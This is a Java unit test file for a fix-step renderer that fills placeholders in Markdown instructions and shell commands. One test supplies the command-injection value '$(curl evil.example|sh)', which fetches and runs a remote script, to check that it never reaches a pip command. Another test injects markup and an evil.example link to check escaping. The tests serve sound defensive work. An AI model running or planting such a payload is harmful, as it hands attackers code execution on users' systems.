package dev.faultbook.ingest.classify;

import static org.assertj.core.api.Assertions.assertThat;

import dev.faultbook.learnings.FixStep;
import java.util.List;
import java.util.Map;
import org.commonmark.parser.Parser;
import org.commonmark.renderer.text.TextContentRenderer;
import org.junit.jupiter.api.Test;

class FixesTest {
    @Test
    void whatWasCapturedFillsTheSteps() {
        assertThat(Fixes.markdown(
                        List.of(
                                new FixStep.Say("Install ${package:it}."),
                                new FixStep.Run("pip install ${package:PACKAGE}")),
                        Map.of("package", "numlib<2")))
                .isEqualTo("""
                        Install numlib<2.

                        ```sh
                        pip install numlib<2
                        ```""");
    }

    @Test
    void whatAShellWouldRunDoesNotGetIntoACommand() {
        assertThat(Fixes.markdown(
                        List.of(
                                new FixStep.Say("${package:it} is missing."),
                                new FixStep.Run("pip install ${package:PACKAGE}")),
                        Map.of("package", "$(curl evil.example|sh)")))
                .isEqualTo("""
                        $(curl evil.example|sh) is missing.

                        ```sh
                        pip install PACKAGE
                        ```""");
    }

    @Test
    void whatWasCapturedIsNoMarkupInASentence() {
        String fix = Fixes.markdown(
                List.of(new FixStep.Say("It says ${message}, in `${file}`.")),
                Map.of(
                        "message",
                        "`pre + \"*\" * 60` of <string>, my_pkg.__init__ [see](http://evil.example) &lt; ~~x",
                        "file",
                        "a_*_`b`"));
        assertThat(TextContentRenderer.builder()
                        .build()
                        .render(Parser.builder().build().parse(fix)))
                .isEqualTo(
                        "It says `pre + \"*\" * 60` of <string>, my_pkg.__init__ [see](http://evil.example) &lt; ~~x, in \"a_*_'b'\".");
    }

    @Test
    void aSentenceThatIsFilledInEndsOnce() {
        assertThat(Fixes.markdown(
                        List.of(new FixStep.Say("It says: ${message:nothing}. Mend it.")),
                        Map.of("message", "Object is possibly 'undefined'.")))
                .isEqualTo("It says: Object is possibly 'undefined'. Mend it.");
    }

    @Test
    void aPlaceThatNothingFillsTakesItsBlankAlong() {
        FixStep.Say say =
                new FixStep.Say("The environment ${name:} ${path:} is not as expected${hint:}. See ${log:the log} .");

        assertThat(Fixes.markdown(List.of(say), Map.of("name", "dev")))
                .isEqualTo("The environment dev is not as expected. See the log .");
        assertThat(Fixes.markdown(List.of(say), Map.of("name", " ", "log", "\tbuild.log ")))
                .isEqualTo("The environment is not as expected. See build.log .");
    }
}
